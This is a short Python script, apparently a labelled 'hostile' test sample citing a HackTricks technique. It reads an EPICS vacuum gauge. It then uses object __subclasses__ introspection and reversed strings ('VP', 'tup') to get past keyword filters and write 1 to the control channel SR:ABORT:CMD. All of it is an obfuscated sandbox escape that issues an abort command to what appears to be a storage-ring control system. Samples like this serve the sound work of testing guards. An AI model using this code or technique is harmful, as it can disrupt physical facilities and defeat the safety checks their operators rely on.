# source: HackTricks, bypass Python sandboxes by __subclasses__ (book.hacktricks.wiki)
# kind: hostile
# writes: yes
# channels: SR:ABORT:CMD
# reads: yes
import epics

print("gauge", epics.caget("SR:VAC:G1"))


def find(name):
    base = ().__class__.__base__
    for kind in base.__subclasses__():
        if kind.__name__ == name and kind.__module__.startswith("ep"):
            return kind
    return None


kind = find("VP"[::-1])
kind("SR:ABORT:CMD").__class__.__dict__["tup"[::-1]](kind("SR:ABORT:CMD"), 1)
